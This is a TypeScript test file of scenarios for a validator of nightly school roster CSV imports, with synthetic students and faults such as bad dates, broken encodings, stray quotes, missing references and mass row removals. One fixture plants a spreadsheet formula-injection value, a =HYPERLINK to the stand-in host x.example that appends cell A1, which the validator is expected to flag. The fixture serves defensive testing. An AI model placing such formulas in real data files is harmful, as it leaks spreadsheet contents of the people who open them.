// Faults of the data itself: values, keys, references, and change against the last night.
import { changed, type Scenario } from './scenario.ts';
import { smallDistrict } from './school.ts';
import { clever, extract, extractColumns, extractEnrollments, extractRows, oneRoster } from './systems.ts';
import { eachLine, inWindows1252, onLine, type Row, written } from './texts.ts';

export function dataNights(): Scenario[] {
  const many = smallDistrict(120);
  const some = smallDistrict(60);
  const text = extract(many);
  const rows = extractRows(many);
  const learned = { layout: 'learn', before: { 'students.csv': text } };
  const withRows = (change: (row: Row, at: number) => Row) => ({
    'students.csv': written(extractColumns, rows.map(change)),
  });
  const few = smallDistrict(40);
  const set = { 'students.csv': extract(few), 'enrollments.csv': extractEnrollments(few) };
  return [
    {
      name: 'data-three-impossible-dates',
      about:
        'Three birth dates that are no days; three of 60 rows are over the usual limit of two per cent, but fewer than five.',
      layout: 'clever-sftp',
      before: clever(some),
      tonight: changed(clever(some), {
        'students.csv': (csv) =>
          [9, 40, 57].reduce(
            (all, line) => onLine(all, line, (row) => row.replace(/\d+\/\d+\/(20\d\d)/, '2/30/$1')),
            csv,
          ),
      }),
      must: ['accept', 'date_invalid students.csv:9'],
    },
    {
      name: 'data-dates-in-another-format',
      about: 'The export writes ISO dates where it wrote 8/17/2010 until last night.',
      ...learned,
      tonight: {
        'students.csv': written(
          extractColumns,
          extractRows(many, (iso) => iso),
        ),
      },
      must: ['hold', 'date_format_changed students.csv', 'rows_changed_mass students.csv'],
    },
    {
      name: 'data-end-before-start',
      about: 'A class’s term ends before it begins.',
      layout: 'oneroster-1.1',
      before: oneRoster(smallDistrict(34)),
      tonight: changed(oneRoster(smallDistrict(34)), {
        'academicSessions.csv': (csv) => csv.replace('2026-08-17,2027-01-08', '2027-01-08,2026-08-17'),
      }),
      must: ['accept', 'date_order_wrong academicSessions.csv:2'],
    },
    {
      name: 'data-unknown-role',
      about: 'A counselor appears; OneRoster 1.1 has a list of roles, and that is none of them.',
      layout: 'oneroster-1.1',
      before: oneRoster(smallDistrict(34)),
      tonight: changed(oneRoster(smallDistrict(34)), {
        'users.csv': (csv) => onLine(csv, 3, (row) => row.replace(',teacher,', ',counselor,')),
      }),
      must: ['accept', 'enum_unknown users.csv:3'],
    },
    {
      name: 'data-unknown-grade',
      about: 'A grade KF, which no table of the state has.',
      layout: 'clever-sftp',
      before: clever(some),
      tonight: changed(clever(some), {
        'students.csv': (csv) => onLine(csv, 30, (row) => row.replace(/,(\d+),([MFX]),/, ',KF,$2,')),
      }),
      must: ['accept', 'grade_code_unknown students.csv:30'],
    },
    {
      name: 'data-ids-that-say-null',
      about: 'An outer join leaves the word NULL where an id belongs, in four rows.',
      ...learned,
      tonight: withRows((row, at) => (at >= 50 && at < 54 ? { ...row, student_id: 'NULL' } : row)),
      must: ['accept', 'required_value_missing students.csv:52'],
    },
    {
      name: 'data-decoded-twice',
      about: 'Somewhere upstream the text was decoded twice: Peña became PeÃ±a.',
      ...learned,
      tonight: { 'students.csv': new TextDecoder('windows-1252').decode(Buffer.from(text, 'utf8')) },
      must: ['accept', 'mojibake_suspected students.csv'],
    },
    {
      name: 'data-letters-lost',
      about: 'The letters outside of ASCII were replaced by the mark for “unknown”; they are lost at the source.',
      ...learned,
      tonight: { 'students.csv': text.replaceAll(/\P{ASCII}/gu, '\ufffd') },
      must: ['accept', 'replacement_char students.csv'],
    },
    {
      name: 'data-two-encodings-in-one-file',
      about: 'Two programs wrote the file: half of the names are UTF-8, the other half Windows-1252.',
      ...learned,
      tonight: { 'students.csv': halfLatin(text) },
      must: ['hold', 'encoding_mixed students.csv', 'bad_rows_over_limit students.csv'],
    },
    {
      name: 'data-control-characters',
      about: 'A zero byte behind a name, as a fixed-width field leaves it.',
      ...learned,
      tonight: { 'students.csv': onLine(text, 15, (row) => row.replace(/^(\d+,\d+,[^,]+)/, '$1\u0000')) },
      must: ['accept', 'control_char students.csv:15'],
    },
    {
      name: 'data-nickname-in-bare-quotes',
      about: 'A nickname in quotes inside a value without quotes: Robert "Bo".',
      ...learned,
      tonight: {
        'students.csv': onLine(text, 33, (row) => row.replace(/^(\d+,\d+,[^,]+,)[^,]+/, '$1Robert "Bo" Lee')),
      },
      must: ['accept', 'quote_stray students.csv:33'],
    },
    {
      name: 'data-unclosed-quote-in-the-middle',
      about: 'A quote opens in row 60 and is never closed: the rest of the file would be one value.',
      ...learned,
      tonight: { 'students.csv': onLine(text, 61, (row) => row.replace(/^(\d+,\d+,)/, '$1"')) },
      must: ['reject', 'quote_unbalanced students.csv:61'],
    },
    {
      name: 'data-formula-in-a-name',
      about: 'A value that a spreadsheet would run: =HYPERLINK(...) as a street.',
      ...learned,
      tonight: withRows((row, at) =>
        at === 70 ? { ...row, home_address: '=HYPERLINK("http://x.example/?"&A1,"Oak St")' } : row,
      ),
      must: ['accept', 'formula_like_value students.csv:72'],
    },
    {
      name: 'data-column-emptied',
      about: 'The e-mail addresses are gone from every row; everything else is as it was.',
      ...learned,
      tonight: withRows((row) => ({ ...row, email: '' })),
      must: ['hold', 'column_emptied students.csv', 'rows_changed_mass students.csv'],
    },
    {
      name: 'data-columns-swapped-under-their-names',
      about: 'The SELECT list was shifted: e-mails stand under home_address and addresses under email.',
      ...learned,
      tonight: withRows((row) => ({ ...row, email: row['home_address']!, home_address: row['email']! })),
      must: [
        'hold',
        'column_content_swapped students.csv',
        'rows_changed_mass students.csv',
        'email_invalid students.csv:2',
      ],
    },
    {
      name: 'data-student-at-two-schools',
      about: 'A student is enrolled at two schools and comes twice under one id.',
      ...learned,
      tonight: {
        'students.csv': written(extractColumns, [
          ...rows,
          { ...rows[9]!, school_id: rows[9]!['school_id'] === '0031' ? '0012' : '0031' },
        ]),
      },
      must: ['accept', 'key_duplicate students.csv:122'],
    },
    {
      name: 'data-section-without-its-section',
      about: 'Section 2104-02 was left out of the sections; everything that points to it is one group.',
      layout: 'clever-sftp',
      before: clever(smallDistrict(34)),
      tonight: changed(clever(smallDistrict(34)), {
        'sections.csv': (csv) => eachLine(csv, (line) => (line.includes(',2104-02,') ? undefined : line)),
      }),
      must: [
        'hold',
        'reference_missing enrollments.csv',
        'reference_ratio_high enrollments.csv',
        'bad_rows_over_limit enrollments.csv',
      ],
    },
    {
      name: 'data-enrolments-of-next-year',
      about: 'The enrolments are already those of next year: nearly none of their students is in the other file.',
      layout: 'learn',
      before: set,
      tonight: {
        ...set,
        'enrollments.csv': extractEnrollments({
          ...few,
          students: few.students.map((student, at) => ({ ...student, id: String(9001 + at).padStart(6, '0') })),
        }),
      },
      must: [
        'hold',
        'reference_missing enrollments.csv:2',
        'reference_ratio_high enrollments.csv',
        'bad_rows_over_limit enrollments.csv',
        'rows_removed_mass enrollments.csv',
        'rows_added_mass enrollments.csv',
      ],
    },
    {
      name: 'data-one-school-gone',
      about: 'The middle school is missing as a whole.',
      ...learned,
      tonight: {
        'students.csv': written(
          extractColumns,
          rows.filter((row) => row['school_id'] !== '0012'),
        ),
      },
      must: ['hold', 'rows_removed_mass students.csv', 'group_removed_whole students.csv'],
    },
    {
      name: 'data-one-student-in-six-gone',
      about: 'Twenty of 120 students are gone, spread over all schools and grades.',
      ...learned,
      tonight: {
        'students.csv': written(
          extractColumns,
          rows.filter((_, at) => at % 6 !== 2),
        ),
      },
      must: ['hold', 'rows_removed_mass students.csv'],
    },
    {
      name: 'data-one-student-in-ten-gone',
      about:
        'Twelve of 120 are gone: exactly at the limit of ten per cent, and fewer than twenty rows. Nothing to stop.',
      ...learned,
      tonight: {
        'students.csv': written(
          extractColumns,
          rows.filter((_, at) => at % 10 !== 2),
        ),
      },
      must: ['accept'],
    },
    {
      name: 'data-limit-of-the-district',
      about: 'The same twelve, but this district has agreed on two per cent and at least five.',
      ...learned,
      guards: { rowsRemoved: { percent: 2, atLeast: 5 } },
      tonight: {
        'students.csv': written(
          extractColumns,
          rows.filter((_, at) => at % 10 !== 2),
        ),
      },
      must: ['hold', 'rows_removed_mass students.csv'],
    },
    {
      name: 'data-last-years-students-back',
      about: 'Students of the last years came back into the export: 110 more than there were.',
      layout: 'learn',
      before: { 'students.csv': extract(some) },
      tonight: { 'students.csv': extract(smallDistrict(170)) },
      must: ['hold', 'rows_added_mass students.csv'],
    },
    {
      name: 'data-ids-issued-anew',
      about: 'The SIS was migrated: every student has a new id, and everything else is as it was.',
      ...learned,
      tonight: withRows((row, at) => ({ ...row, student_id: String(700_100 + at) })),
      must: [
        'hold',
        'rows_removed_mass students.csv',
        'rows_added_mass students.csv',
        'key_space_replaced students.csv',
      ],
    },
    {
      name: 'data-four-per-cent-every-night',
      about:
        'Four students of a hundred tonight, and as many on each of four nights before: the week is over its limit.',
      ...learned,
      removedSinceWeek: { 'students.csv': { removed: 20, of: 140 } },
      tonight: { 'students.csv': written(extractColumns, rows.slice(5)) },
      must: ['hold', 'drift_since_week students.csv'],
    },
    {
      name: 'data-broken-join-in-a-third',
      about: 'A broken join leaves a third of the rows without first and last name.',
      layout: 'clever-sftp',
      before: clever(some),
      tonight: changed(clever(some), {
        'students.csv': (csv) =>
          eachLine(csv, (line, number) =>
            number > 1 && number % 3 === 0
              ? line.replace(/^([^,]+,[^,]+,[^,]+,[^,]+),[^,]+,([^,]*),[^,]+,/, '$1,,$2,,')
              : line,
          ),
      }),
      must: ['hold', 'required_value_missing students.csv:3', 'bad_rows_over_limit students.csv'],
    },
    {
      name: 'data-severity-raised-by-the-district',
      about: 'One student at two schools would be accepted; this district holds a night for any id that comes twice.',
      ...learned,
      severities: { key_duplicate: 'hold' },
      tonight: {
        'students.csv': written(extractColumns, [...rows, { ...rows[9]!, email: 'other@students.lakeside.example' }]),
      },
      must: ['hold', 'key_duplicate students.csv:122'],
    },
    {
      name: 'data-removed-column-held-not-rejected',
      about: 'A column is gone; this district wants to see such a night instead of having it refused.',
      ...learned,
      severities: { column_missing: 'hold' },
      tonight: { 'students.csv': eachLine(text, (line) => line.split(',').toSpliced(4, 1).join(',')) },
      must: ['hold', 'column_missing students.csv:1'],
    },
  ];
}

/** The names of every second row in the Windows code page. */
function halfLatin(text: string): Buffer {
  const lines = text.split('\n');
  return Buffer.concat(
    lines.map((line, at) => {
      const whole = at === lines.length - 1 ? line : `${line}\n`;
      return at % 2 === 0 ? Buffer.from(whole) : inWindows1252(whole);
    }),
  );
}
